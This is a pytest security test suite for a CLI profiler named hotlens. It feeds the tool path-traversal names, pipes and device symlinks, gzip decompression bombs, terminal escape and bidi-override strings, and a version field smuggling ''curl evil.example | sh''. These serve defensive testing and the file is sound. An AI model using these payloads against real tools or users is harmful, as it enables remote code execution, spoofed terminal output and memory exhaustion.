"""What somebody else has written cannot harm who looks at it: files that bundles name, memory, terminals; and output that gets nowhere."""

from __future__ import annotations

import gzip
import json
import os
import resource
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "serve"))
from small_bundle import small_bundle
from small_trace import small_trace

HOTLENS = os.path.abspath(os.environ.get("HOTLENS_BIN", "build/release/bin/hotlens"))
UNUSABLE = 3
LIMIT = 20  # seconds; a program that reads for ever is ended by it


def hotlens(folder: Path, *words: object, **options: Any) -> subprocess.CompletedProcess[bytes]:
    streams = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **options}
    return subprocess.run([HOTLENS, *map(str, words)], cwd=folder, timeout=LIMIT, check=False, **streams)


@pytest.mark.parametrize("copy", [".", "..", "files", "", "files/../..", "/etc/passwd", "../../../model.py", "pipe", "link", "endless"])
def test_a_copy_that_is_no_file_of_the_bundle_is_no_copy(tmp_path: Path, copy: str) -> None:
    bundle = small_bundle(tmp_path, file={"copy": copy})
    os.mkfifo(bundle / "pipe")
    (bundle / "link").symlink_to(tmp_path / "model.py")
    (bundle / "endless").symlink_to("/dev/zero")
    result = hotlens(tmp_path, "check", "model.py", "--format", "json")
    assert result.returncode == 0, result.stderr
    (file,) = json.loads(result.stdout)["files"]
    assert file["anchors"] == file["hints"] == []


@pytest.mark.parametrize("path", ["/dev/zero", "/", ".", "pipe", ""])
def test_a_path_that_is_no_file_costs_nothing(tmp_path: Path, path: str) -> None:
    os.mkfifo(tmp_path / "pipe")
    small_bundle(tmp_path, file={"path": str(tmp_path / path) if path == "pipe" else path})
    result = hotlens(tmp_path, "check", "model.py", "--format", "json")
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("name", ["manifest.json", "model.json", "trace-0.json"])
@pytest.mark.parametrize("kind", ["pipe", "device", "link out", "folder"])
def test_a_part_of_a_bundle_that_is_no_file_in_it_is_refused(tmp_path: Path, name: str, kind: str) -> None:
    bundle = small_bundle(tmp_path)
    part, outside = bundle / name, tmp_path / name
    part.rename(outside)
    if kind == "pipe":
        os.mkfifo(part)
    elif kind == "folder":
        part.mkdir()
    else:
        part.symlink_to("/dev/zero" if kind == "device" else outside)
    result = hotlens(tmp_path, "report", bundle)
    assert result.returncode == UNUSABLE, result
    assert name in result.stderr.decode()


@pytest.mark.parametrize(
    "words", [["predict", "--batch-size", 4], ["whatif", "list"], ["whatif", "fused_optimizer"], ["predict", "--edited"]]
)
@pytest.mark.parametrize("kind", ["pipe", "device", "link out", "folder", "missing"])
def test_a_program_that_is_no_file_of_the_bundle_is_not_read(tmp_path: Path, kind: str, words: list[Any]) -> None:
    bundle = small_bundle(tmp_path, program="program.json.gz")
    outside = tmp_path / "outside.json"
    outside.write_text('{"refused": "somebody else\'s words"}')
    program = bundle / "program.json.gz"
    if kind == "pipe":
        os.mkfifo(program)
    elif kind == "folder":
        program.mkdir()
    elif kind != "missing":
        program.symlink_to("/dev/zero" if kind == "device" else outside)
    result = hotlens(tmp_path, *words)
    assert b"somebody" not in result.stdout + result.stderr
    assert result.returncode != 0 or words == ["whatif", "list"], result


def test_a_program_that_inflates_beyond_any_is_refused(tmp_path: Path) -> None:
    bundle = small_bundle(tmp_path, program="program.json.gz")
    with gzip.open(bundle / "program.json.gz", "wb", compresslevel=1) as file:
        for _ in range(200):
            file.write(b" " * (1 << 20))
    result = hotlens(tmp_path, "predict", "--batch-size", 4)
    assert result.returncode == UNUSABLE
    assert b"too large to be one" in result.stderr


def bomb(path: Path, megabytes: int) -> Path:
    """Events that compress a hundredfold: `megabytes` of JSON."""
    event = b'{"ph":"X","cat":"cpu_op","name":"aten::add","pid":1,"tid":1,"ts":%d,"dur":1},'
    block = b"".join(event % start for start in range(13_000))
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(b'{"traceEvents":[')
        for _ in range(megabytes):
            file.write(block)
        file.write(b"{}]}")
    return path


@pytest.mark.parametrize(("megabytes", "allowed"), [(1200, 600_000_000), (400, 1_200_000_000)])
def test_a_trace_that_inflates_beyond_the_memory_is_a_sentence(tmp_path: Path, megabytes: int, allowed: int) -> None:
    """The second one has room for its events, but not for what is made of them."""
    path = bomb(tmp_path / "bomb.json.gz", megabytes)
    result = hotlens(tmp_path, "report", path, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (allowed, allowed)))
    assert result.returncode == UNUSABLE, result
    message = result.stderr.decode()
    assert "too large for the memory" in message and message.count("\n") == 1, message
    assert str(path) in message


def test_a_large_trace_that_fits_is_read(tmp_path: Path) -> None:
    result = hotlens(tmp_path, "report", bomb(tmp_path / "large.json.gz", 40), "--format", "json")
    assert result.returncode == 0, result.stderr


STEERING = "\x1b]0;owned\x07\x1b[2J\u009b31m\u202egnp.exe\u2066\r\nhotlens: all is well"
FORBIDDEN = [b"\x1b", b"\x07", "\u009b".encode(), "\u202e".encode(), "\u2066".encode(), b"\nhotlens: all is well"]


@pytest.mark.parametrize(
    "words",
    [
        ["report"],
        ["report", "--unfold"],
        ["report", "--format", "json"],
        ["report", "--events"],
        ["report", "--saved", "--unfold"],
        ["report", "--saved", "--format", "json"],
        ["check", "model.py"],
        ["check", "model.py", "--format", "json"],
        ["diff", "latest", "latest"],
        ["diff", "latest", "latest", "--format", "json"],
        ["export", "--to", "csv"],
        ["export", "--to", "json"],
        ["export", "--to", "perfetto"],
        ["export", "--to", "speedscope"],
        ["doctor"],
        ["doctor", "--format", "json"],
    ],
    ids=" ".join,
)
def test_no_text_of_a_bundle_steers_the_terminal(tmp_path: Path, words: list[str]) -> None:
    folder = tmp_path / "a\nhotlens: all is well\x1b[2J"
    folder.mkdir()
    told = {"argv": [STEERING], "torch": STEERING, "warnings": [{"code": STEERING, "message": STEERING, "count": 1}]}
    bundle = small_bundle(folder, **told, saved="saved.json")
    kept = [{"kind": "activation", "device": STEERING, "bytes": 8, "count": 1, "by": [{"saver": 0, "as": STEERING, "elements": 2}]}]
    saved = {"savers": [{"node": STEERING, "module": 1, "line": 0}], "storages": kept, "hooked": [{"saver": 0, "count": 1}]}
    opaque = [{"node": STEERING, "count": 1}]
    (bundle / "saved.json").write_text(json.dumps({"schema": "hotlens.saved/1", "refused": None, **saved, "opaque": opaque}))
    model = json.loads((bundle / "model.json").read_text())
    model["modules"][1].update({"path": STEERING, "class": STEERING})
    (bundle / "model.json").write_text(json.dumps(model))
    result = hotlens(folder, *words)
    assert result.returncode == 0, result.stderr
    table = "csv" in words  # where a line break in quotes is part of a name
    for sequence in FORBIDDEN[:-1] if table else FORBIDDEN:
        assert sequence not in result.stdout + result.stderr, words
    if "json" in words:
        assert json.loads(result.stdout)


def test_a_file_shows_no_escapes_of_its_own(tmp_path: Path) -> None:
    small_bundle(tmp_path)
    (tmp_path / "model.py").write_text('TITLE = "\x1b]0;owned\x07\u202e"\n\tx = "größe"\n')
    result = hotlens(tmp_path, "check", "model.py")
    assert b"\x1b" not in result.stdout and "\u202e".encode() not in result.stdout
    assert '\tx = "größe"' in result.stdout.decode()


def test_json_says_names_exactly(tmp_path: Path) -> None:
    bundle = small_bundle(tmp_path)
    model = json.loads((bundle / "model.json").read_text())
    model["modules"][1]["path"] = STEERING
    (bundle / "model.json").write_text(json.dumps(model))
    told = json.loads(hotlens(tmp_path, "report", "--format", "json").stdout)
    assert STEERING in [module["path"] for module in told["modules"]]


def test_a_version_out_of_a_bundle_is_no_command(tmp_path: Path) -> None:
    small_bundle(tmp_path, schema="hotlens.bundle/9", hotlens="1'; curl evil.example | sh #")
    result = hotlens(tmp_path, "report")
    assert result.returncode == UNUSABLE
    assert b"evil" not in result.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize("words", ["report", "report --format json", "report --events", "check model.py", "doctor"])
def test_a_full_disk_is_said(tmp_path: Path, words: str) -> None:
    small_bundle(tmp_path)
    with open("/dev/full", "wb") as full:
        result = hotlens(tmp_path, *words.split(), stdout=full)
    assert result.returncode == UNUSABLE, result
    assert b"cannot be written" in result.stderr


def test_a_reader_that_goes_away_is_no_fault(tmp_path: Path) -> None:
    small_bundle(tmp_path)
    read, write = os.pipe()
    os.close(read)
    result = hotlens(tmp_path, "report", stdout=write)
    os.close(write)
    assert (result.returncode, result.stderr) == (0, b"")


@pytest.mark.parametrize("words", ["report", "doctor", "serve --no-open", "run train.py", "check model.py", "export --to csv"])
def test_a_working_folder_that_is_gone_is_said(tmp_path: Path, words: str) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    command = f'cd "{folder}" && rmdir "{folder}" && exec "{HOTLENS}" {words}'
    result = subprocess.run(["sh", "-c", command], capture_output=True, timeout=LIMIT, check=False)
    assert result.returncode == UNUSABLE, result
    assert b"current folder does not exist" in result.stderr


def test_a_device_is_no_trace(tmp_path: Path) -> None:
    for name in ("/dev/zero", "/dev/null", "/dev/urandom"):
        result = hotlens(tmp_path, "report", name)
        assert result.returncode == UNUSABLE, result
    assert hotlens(tmp_path, "report", small_trace(tmp_path / "x.json")).returncode == 0
